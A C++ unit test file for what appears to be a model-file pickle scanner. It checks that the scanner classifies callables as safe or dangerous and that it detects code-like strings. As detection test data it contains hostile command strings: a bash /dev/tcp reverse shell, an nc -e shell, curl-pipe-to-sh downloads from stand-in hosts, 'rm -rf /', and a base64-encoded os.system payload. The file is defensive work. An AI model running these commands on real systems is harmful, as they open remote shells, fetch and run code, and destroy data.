// The callable policy: safe reconstruction helpers, dangerous gadgets (with aliases and
// submodules), unknown defaults, dunder traversal, and every published evasion gadget.
#include <gtest/gtest.h>

#include "hubguard/scan/policy/classify.hpp"
#include "hubguard/scan/policy/code_heuristics.hpp"
#include "hubguard/scan/policy/known_evasions.hpp"

namespace hubguard::scan::policy {
namespace {

Safety safety(std::string_view m, std::string_view n) { return classify(m, n).safety; }

TEST(Policy, TorchWeightsOnlyAllowlistIsSafe) {
  EXPECT_EQ(safety("torch._utils", "_rebuild_tensor_v2"), Safety::safe);
  EXPECT_EQ(safety("torch._utils", "_rebuild_parameter"), Safety::safe);
  EXPECT_EQ(safety("torch", "FloatStorage"), Safety::safe);
  EXPECT_EQ(safety("torch", "Size"), Safety::safe);
  EXPECT_EQ(safety("torch", "float32"), Safety::safe);
  EXPECT_EQ(safety("torch", "device"), Safety::safe);
  EXPECT_EQ(safety("torch._utils", "_rebuild_parameter_with_state"), Safety::safe);
  EXPECT_EQ(safety("torch.nn.modules.linear", "Linear"), Safety::safe);
  EXPECT_EQ(safety("collections", "OrderedDict"), Safety::safe);
  EXPECT_EQ(safety("torch._tensor", "_rebuild_from_type_v2"), Safety::safe);
}

TEST(Policy, NumpySklearnPandasReconstructionIsSafe) {
  EXPECT_EQ(safety("numpy.core.multiarray", "_reconstruct"), Safety::safe);
  EXPECT_EQ(safety("numpy._core.multiarray", "_reconstruct"), Safety::safe);  // NumPy 2
  EXPECT_EQ(safety("numpy", "dtype"), Safety::safe);
  EXPECT_EQ(safety("numpy", "ndarray"), Safety::safe);
  EXPECT_EQ(safety("numpy.core.multiarray", "scalar"), Safety::safe);
  EXPECT_EQ(safety("_codecs", "encode"), Safety::safe);
  EXPECT_EQ(safety("sklearn.linear_model._logistic", "LogisticRegression"), Safety::safe);
  EXPECT_EQ(safety("sklearn.pipeline", "Pipeline"), Safety::safe);
  EXPECT_EQ(safety("pandas.core.frame", "DataFrame"), Safety::safe);
  EXPECT_EQ(safety("pandas._libs.internals", "_unpickle_block"), Safety::safe);
  EXPECT_EQ(safety("copy_reg", "_reconstructor"), Safety::safe);
  EXPECT_TRUE(classify("copyreg", "_reconstructor").instantiates_first_argument);
  EXPECT_EQ(safety("__builtin__", "set"), Safety::safe);
  EXPECT_EQ(safety("builtins", "slice"), Safety::safe);
}

TEST(Policy, SafeTreesDoNotCoverFunctions) {
  EXPECT_EQ(safety("sklearn.utils._testing", "assert_run_python_script"), Safety::dangerous);
  EXPECT_EQ(safety("sklearn.utils", "some_helper"), Safety::unknown);
  EXPECT_EQ(safety("numpy", "size"), Safety::unknown);
  EXPECT_EQ(safety("numpy", "load"), Safety::dangerous);
  EXPECT_EQ(safety("numpy", "DataSource"), Safety::dangerous);
  EXPECT_EQ(safety("torch", "load"), Safety::dangerous);
  EXPECT_EQ(safety("torch.jit", "ScriptModule"), Safety::dangerous);
  EXPECT_EQ(safety("pandas", "read_pickle"), Safety::dangerous);
}

TEST(Policy, DangerousModulesCoverSubmodulesAndAliases) {
  EXPECT_EQ(safety("os", "system"), Safety::dangerous);
  EXPECT_EQ(safety("posix", "system"), Safety::dangerous);
  EXPECT_EQ(safety("nt", "spawnv"), Safety::dangerous);
  EXPECT_EQ(safety("__builtin__", "eval"), Safety::dangerous);
  EXPECT_EQ(safety("subprocess", "Popen"), Safety::dangerous);
  EXPECT_EQ(safety("asyncio.unix_events", "_UnixSubprocessTransport"), Safety::dangerous);
  EXPECT_EQ(safety("torch.hub", "load"), Safety::dangerous);
  EXPECT_EQ(classify("os", "system").category, kShellCommand);
  EXPECT_EQ(classify("socket", "socket").category, kReverseShell);
  EXPECT_EQ(classify("requests", "get").category, kDownloader);
  EXPECT_EQ(classify("shutil", "rmtree").category, kDestructive);
  EXPECT_EQ(classify("builtins", "open").category, kFileAccess);
  EXPECT_EQ(classify("builtins", "getattr").category, kObfuscation);
  EXPECT_EQ(classify("builtins", "exec").category, kCodeExecution);
  EXPECT_EQ(classify("os", "getenv").category, kReconnaissance);
  EXPECT_EQ(canonical_path("__builtin__", "eval"), "builtins.eval");
}

TEST(Policy, DottedNamesAreAttributeWalks) {
  EXPECT_EQ(safety("torch._utils", "_rebuild_tensor_v2.__globals__"), Safety::dangerous);
  EXPECT_EQ(safety("numpy", "__builtins__"), Safety::dangerous);
  EXPECT_EQ(safety("collections", "OrderedDict.__init__.__globals__"), Safety::dangerous);
  EXPECT_EQ(safety("collections", "OrderedDict.fromkeys"), Safety::unknown);
  EXPECT_EQ(safety("copyreg", "__newobj__"), Safety::safe);
  EXPECT_EQ(safety("transformers", "AutoModel.from_pretrained"), Safety::dangerous);
}

TEST(Policy, EverythingElseIsUnknown) {
  EXPECT_EQ(safety("__main__", "MyModel"), Safety::unknown);
  EXPECT_EQ(safety("mylib.models", "evil"), Safety::unknown);
  EXPECT_EQ(safety("builtins", "print"), Safety::unknown);
  EXPECT_EQ(classify("_private_ext", "thing").reason, "private interpreter or extension module");
}

TEST(Policy, EveryPublishedGadgetIsDangerous) {
  std::size_t gadgets = 0;
  for (const KnownEvasion& e : known_evasions()) {
    if (e.module.empty()) {
      EXPECT_FALSE(e.test.empty()) << e.id;
      continue;
    }
    ++gadgets;
    Classification c = classify(e.module, e.name);
    EXPECT_EQ(c.safety, Safety::dangerous) << e.id << " (" << e.source << "): " << c.path;
    EXPECT_FALSE(c.category.empty()) << e.id;
  }
  EXPECT_GT(gadgets, 50u);
}

TEST(CodeHeuristics, CodeAndCommandsAreRecognised) {
  EXPECT_TRUE(looks_like_code_or_command("__import__('os').system('id')"));
  EXPECT_TRUE(looks_like_code_or_command("import os; os.system('ls')"));
  EXPECT_TRUE(looks_like_code_or_command("exec(open('x').read())"));
  EXPECT_TRUE(looks_like_code_or_command("echo pwned"));
  EXPECT_TRUE(looks_like_code_or_command("/bin/sh -c id"));
  EXPECT_TRUE(looks_like_code_or_command("curl http://evil.example/x"));
  EXPECT_TRUE(looks_like_code_or_command("x; rm -rf /tmp/a"));
  EXPECT_TRUE(looks_like_code_or_command(
      "aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaCcp"));
}

TEST(CodeHeuristics, OrdinaryStringsAreNot) {
  EXPECT_FALSE(looks_like_code_or_command("id"));
  EXPECT_FALSE(looks_like_code_or_command("layer.0.weight"));
  EXPECT_FALSE(looks_like_code_or_command("float32"));
  EXPECT_FALSE(looks_like_code_or_command("This is an important sentence."));
  EXPECT_FALSE(looks_like_code_or_command("cpu"));
  EXPECT_FALSE(looks_like_code_or_command("https://huggingface.co/bert-base-uncased"));
  EXPECT_FALSE(looks_like_code_or_command("lbfgs"));
}

TEST(CodeHeuristics, KnownBadPayloads) {
  EXPECT_EQ(known_bad_behaviour("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")->category, kReverseShell);
  EXPECT_EQ(known_bad_behaviour("curl -s http://x.example/a.sh | sh")->category, kDownloader);
  EXPECT_EQ(known_bad_behaviour("rm -rf / --no-preserve-root")->category, kDestructive);
  EXPECT_EQ(known_bad_behaviour("nc -e /bin/sh 10.0.0.1 4444")->category, kReverseShell);
  EXPECT_FALSE(known_bad_behaviour("echo pwned").has_value());
  EXPECT_FALSE(known_bad_behaviour("id").has_value());
}

}  // namespace
}  // namespace hubguard::scan::policy
